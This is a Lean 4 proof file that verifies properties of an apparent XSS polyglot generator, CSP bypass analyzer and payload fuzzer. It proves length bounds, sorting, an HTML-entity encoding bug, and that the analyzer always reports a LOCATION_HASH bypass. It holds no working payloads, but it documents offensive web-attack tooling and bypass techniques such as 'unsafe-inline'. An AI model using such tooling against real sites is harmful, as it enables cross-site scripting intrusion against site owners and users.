    rw [hlk] at hpl₂
    simp only [List.mem_flatten, List.mem_map] at hpl₂
    obtain ⟨l₃, ⟨pr, _, rfl⟩, hpl₃⟩ := hpl₂
    by_cases hif : (pr.1 ++ base.payload ++ pr.2).length ≤ maxLen
    · rw [if_pos hif] at hpl₃
      rcases List.mem_singleton.mp hpl₃ with rfl
      exact ⟨hif, rfl⟩
    · rw [if_neg hif] at hpl₃
      simp at hpl₃

theorem Polyglot.generateBasicPolyglots_bound (maxLen : Nat)
    (rng : List Nat) (targets : List Polyglot.PolyglotContext) :
    ∀ p ∈ (Polyglot.generateBasicPolyglots rng targets maxLen).1,
      p.payload.length ≤ maxLen ∧ p.length = p.payload.length := by
  intro p hp
  simp only [Polyglot.generateBasicPolyglots] at hp
  exact Polyglot.basicLoop_bound maxLen _ rng p hp

/-- C4: every polyglot returned by `generate_polyglots` — for every target
set, length bound, payload cap, obfuscation flag, browser list and random
outcome — has payload length at most `max_length`, and its recorded
`length` field equals that payload length (hence is also at most
`max_length`). -/
theorem c4_polyglot_max_length (rng : List Nat)
    (targets : List Polyglot.PolyglotContext) (maxLen maxP : Nat)
    (includeObf : Bool) (browsers : Option (List Str)) :
    (Polyglot.generatePolyglots rng targets maxLen maxP includeObf browsers).Forall
      (fun pl => pl.payload.length ≤ maxLen ∧ pl.length = pl.payload.length) := by
  rw [List.forall_iff_forall_mem]
  intro p hp
  simp only [Polyglot.generatePolyglots] at hp
  rcases h1 : Polyglot.generateBasicPolyglots rng targets maxLen with ⟨basics, rng₁⟩
  rw [h1] at hp
  rcases h2 : Polyglot.generateEncodedPolyglots rng₁ basics maxLen with ⟨encoded, rng₂⟩
  rw [h2] at hp
  rcases h3 : (if includeObf then Polyglot.generateObfuscatedPolyglots rng₂ basics maxLen
               else ([], rng₂)) with ⟨obf, rng₃⟩
  rw [h3] at hp
  have hbasics : ∀ b ∈ basics, b.payload.length ≤ maxLen ∧ b.length = b.payload.length :=
    fun b hb => Polyglot.generateBasicPolyglots_bound maxLen rng targets b
      (by rw [h1]; exact hb)
  have hencoded : ∀ b ∈ encoded,
      b.payload.length ≤ maxLen ∧ b.length = b.payload.length :=
    fun b hb => Polyglot.generateEncodedPolyglots_bound maxLen basics rng₁
      (fun q hq => (hbasics q hq).1) b (by rw [h2]; exact hb)
  have hobf : ∀ b ∈ obf, b.payload.length ≤ maxLen ∧ b.length = b.payload.length := by
    cases includeObf with
    | false =>
      simp only [Bool.false_eq_true, if_false] at h3
      intro b hb
      rw [show obf = [] from (Prod.mk.injEq _ _ _ _).mp h3 |>.1.symm] at hb
      simp at hb
    | true =>
      simp only [if_true] at h3
      intro b hb
      exact Polyglot.generateObfuscatedPolyglots_bound maxLen basics rng₂
        (fun q hq => (hbasics q hq).1) b (by rw [h3]; exact hb)
  have hbrowser : ∀ b ∈ (match browsers with
      | some bs => Polyglot.generateBrowserSpecificPolyglots basics bs maxLen
      | none => ([] : List Polyglot.PolyglotPayload)),
      b.payload.length ≤ maxLen ∧ b.length = b.payload.length := by
    cases browsers with
    | none => intro b hb; simp at hb
    | some bs =>
      intro b hb
      exact Polyglot.generateBrowserSpecificPolyglots_bound maxLen basics bs b hb
  have hp2 := List.take_subset _ _ hp
  have hp3 := (List.perm_insertionSort Polyglot.confRel _).mem_iff.mp hp2
  obtain ⟨q, hq, rfl⟩ := List.mem_map.mp hp3
  have hqbound : q.payload.length ≤ maxLen ∧ q.length = q.payload.length := by
    rcases List.mem_append.mp hq with hq' | hbr
    · rcases List.mem_append.mp hq' with hq'' | hob
      · rcases List.mem_append.mp hq'' with hb | he
        · exact hbasics q hb
        · exact hencoded q he
      · exact hobf q hob
    · exact hbrowser q hbr
  exact ⟨hqbound.1, by rw [hqbound.2]⟩

/-- `generate_polyglots` always has the shape
`take max_payloads (insertionSort conf-descending scored)`. -/
theorem Polyglot.generatePolyglots_shape (rng : List Nat)
    (targets : List Polyglot.PolyglotContext) (maxLen maxP : Nat)
    (includeObf : Bool) (browsers : Option (List Str)) :
    ∃ scored : List Polyglot.PolyglotPayload,
      Polyglot.generatePolyglots rng targets maxLen maxP includeObf browsers
        = (List.insertionSort Polyglot.confRel scored).take maxP := by
  simp only [Polyglot.generatePolyglots]
  rcases h1 : Polyglot.generateBasicPolyglots rng targets maxLen with ⟨basics, rng₁⟩
  rcases h2 : Polyglot.generateEncodedPolyglots rng₁ basics maxLen with ⟨encoded, rng₂⟩
  rcases h3 : (if includeObf then Polyglot.generateObfuscatedPolyglots rng₂ basics maxLen
               else ([], rng₂)) with ⟨obf, rng₃⟩
  exact ⟨_, rfl⟩

/-- C5: the list returned by `generate_polyglots` is sorted in descending
order of the `confidence` field and contains at most `max_payloads`
elements. -/
theorem c5_polyglot_sorted_truncated (rng : List Nat)
    (targets : List Polyglot.PolyglotContext) (maxLen maxP : Nat)
    (includeObf : Bool) (browsers : Option (List Str)) :
    List.Sorted Polyglot.confRel
      (Polyglot.generatePolyglots rng targets maxLen maxP includeObf browsers)
    ∧ (Polyglot.generatePolyglots rng targets maxLen maxP includeObf browsers).length
        ≤ maxP := by
  obtain ⟨scored, hs⟩ :=
    Polyglot.generatePolyglots_shape rng targets maxLen maxP includeObf browsers
  rw [hs]
  constructor
  · exact (List.sorted_insertionSort Polyglot.confRel scored).sublist
      (List.take_sublist _ _)
  · simp [List.length_take_le]

/-- C6 (failing part): the HTML-entities encoder substitutes `&` last, so
the entities introduced for `<` are themselves re-encoded: encoding `"<"`
yields `"&amp;lt;"`, which the standard HTML decoder maps back to `"&lt;"`,
not to `"<"` — the decode/encode round trip fails on any input containing
`<`, `>`, `"` or `'`.  (The URL, double-URL, Unicode-escape, hex-escape and
Base64 encoders are not affected by this ordering slip.) -/
theorem c6_html_entities_roundtrip_bug :
    (Polyglot.applyEncoding [] ("<".data)
        Polyglot.EncodingTechnique.HTML_ENTITIES).1 = ("&amp;lt;".data)
    ∧ Py.htmlUnescape ("&amp;lt;".data) = ("&lt;".data)
    ∧ Py.htmlUnescape
        ((Polyglot.applyEncoding [] ("<".data)
            Polyglot.EncodingTechnique.HTML_ENTITIES).1) ≠ ("<".data) := by
  refine ⟨by decide, by decide, ?_⟩
  intro h
  have : (("&lt;".data) : Str) = ("<".data) := by
    have h1 : (Polyglot.applyEncoding [] ("<".data)
        Polyglot.EncodingTechnique.HTML_ENTITIES).1 = ("&amp;lt;".data) := by decide
    rw [h1] at h
    have h2 : Py.htmlUnescape ("&amp;lt;".data) = ("&lt;".data) := by decide
    rw [h2] at h
    exact h
  exact absurd this (by decide)

/-- C7: analyzing the header `script-src 'self' 'unsafe-inline'` reports
the policy as bypassable, with an UNSAFE_INLINE bypass payload of
confidence above 0.9. -/
theorem c7_unsafe_inline_bypass :
    (CSP.analyzeCSP ("script-src 'self' 'unsafe-inline'".data)).is_bypassable = true
    ∧ ∃ b ∈ (CSP.analyzeCSP
        ("script-src 'self' 'unsafe-inline'".data)).bypass_opportunities,
        b.technique = CSP.BypassTechnique.UNSAFE_INLINE ∧ mkRat 9 10 < b.confidence :=
  ⟨by decide, by decide⟩

/-- C8: `detect_context` on `<div>MARK</div>` with marker `MARK` returns an
HTML_TAG_CONTENT fingerprint with empty prefix and suffix (and the default
filter/charset fields); the "best" context is always the first detected
one — first-match-wins, with no scoring tie-break. -/
theorem c8_detect_context_div_mark :
    Fuzzer.detectContext ("<div>MARK</div>".data) ("MARK".data) =
      { context_type := .HTML_TAG_CONTENT
        prefix_ := []
        suffix_ := []
        filters_detected := []
        allowed_chars := Py.printableChars
        blocked_chars := []
        max_length := none
        encoding_required := none }
    ∧ ∀ (c : Fuzzer.ContextFingerprint) (cs : List Fuzzer.ContextFingerprint),
        Fuzzer.selectBestContext (c :: cs) = c :=
  ⟨by decide, fun _ _ => rfl⟩

theorem Fuzzer.fuzzLoop_filterMap (tf : Str → Except Str Str)
    (ctx : Fuzzer.ContextFingerprint) :
    ∀ (payloads : List Str) (st : Fuzzer.FuzzerState),
      (Fuzzer.fuzzLoop tf ctx payloads st).1 =
        payloads.filterMap (fun p =>
          match tf p with
          | .error _ => none
          | .ok resp => some (Fuzzer.analyzeFuzzingResult p resp ctx)) := by
  intro payloads
  induction payloads with
  | nil => intro st; simp [Fuzzer.fuzzLoop]
  | cons p rest ih =>
    intro st
    simp only [Fuzzer.fuzzLoop, List.filterMap_cons]
    cases htf : tf p with
    | error e => simpa [htf] using ih st
    | ok resp =>
      rcases hr : Fuzzer.fuzzLoop tf ctx rest
          (Fuzzer.learnFromResult (Fuzzer.analyzeFuzzingResult p resp ctx) ctx st)
        with ⟨rs, st''⟩
      have h2 := ih (Fuzzer.learnFromResult (Fuzzer.analyzeFuzzingResult p resp ctx) ctx st)
      rw [hr] at h2
      simp only at h2
      simp [hr, h2]

/-- C9: a test-function exception during one payload attempt is swallowed:
the attempt contributes no `FuzzingResult`, the loop continues with the
next payload, and `fuzz_context` (a total function) never propagates the
exception — its result list is exactly the per-payload results of the
successful attempts, in order. -/
theorem c9_fuzz_test_errors_skipped (rng : List Nat) (tf : Str → Except Str Str)
    (ctx : Fuzzer.ContextFingerprint) (maxAttempts : Nat) (st : Fuzzer.FuzzerState) :
    (Fuzzer.fuzzContext rng tf ctx maxAttempts st).1 =
      ((Fuzzer.generatePayloads rng ctx none).1.take maxAttempts).filterMap
        (fun p => match tf p with
          | .error _ => none
          | .ok resp => some (Fuzzer.analyzeFuzzingResult p resp ctx)) := by
  simp only [Fuzzer.fuzzContext]
  exact Fuzzer.fuzzLoop_filterMap tf ctx _ st

theorem Py.append_found_ne_no_bypass (x : Str) :
    ("Found ".data) ++ x ≠ ("No bypass opportunities identified".data) := by
  intro h
  have h1 : ((("Found ".data) ++ x).headD ' ') = 'F' := rfl
  rw [h] at h1
  exact absurd h1 (by decide)

/-- C10: for every CSP header — the empty string and `default-src 'none'`
included — the analyzer reports at least one bypass opportunity (the
LOCATION_HASH bypass is generated unconditionally), so the summary is
never "No bypass opportunities identified". -/
theorem c10_location_hash_always_generated (header : Str) :
    (CSP.analyzeCSP header).bypass_opportunities ≠ []
    ∧ (∃ b ∈ (CSP.analyzeCSP header).bypass_opportunities,
        b.technique = CSP.BypassTechnique.LOCATION_HASH)
    ∧ (CSP.analyzeCSP header).bypass_summary
        ≠ ("No bypass opportunities identified".data) := by
  obtain ⟨x, hxeq, hxtech⟩ :
      ∃ x, CSP.genLocationHash (CSP.parseCSPHeader header) = [x]
        ∧ x.technique = CSP.BypassTechnique.LOCATION_HASH := ⟨_, rfl, rfl⟩
  have heq : (CSP.analyzeCSP header).bypass_opportunities =
      (CSP.allBypassTechniques.map
        (fun t => CSP.analyzeBypassTechnique t (CSP.parseCSPHeader header))).flatten := rfl
  have hxmem : x ∈ (CSP.analyzeCSP header).bypass_opportunities := by
    rw [heq]
    refine List.mem_flatten.mpr
      ⟨CSP.genLocationHash (CSP.parseCSPHeader header), ?_, ?_⟩
    · exact List.mem_map.mpr ⟨CSP.BypassTechnique.LOCATION_HASH, by decide, rfl⟩
    · rw [hxeq]; exact List.mem_singleton_self x
  have hne : (CSP.analyzeCSP header).bypass_opportunities ≠ [] :=
    List.ne_nil_of_mem hxmem
  refine ⟨hne, ⟨x, hxmem, hxtech⟩, ?_⟩
  have hsum : (CSP.analyzeCSP header).bypass_summary =
      CSP.createBypassSummary (CSP.analyzeCSP header).bypass_opportunities := rfl
  rw [hsum]
  unfold CSP.createBypassSummary
  rw [if_neg (by simpa [List.isEmpty_iff] using hne)]
  simp only [List.append_assoc]
  exact Py.append_found_ne_no_bypass _
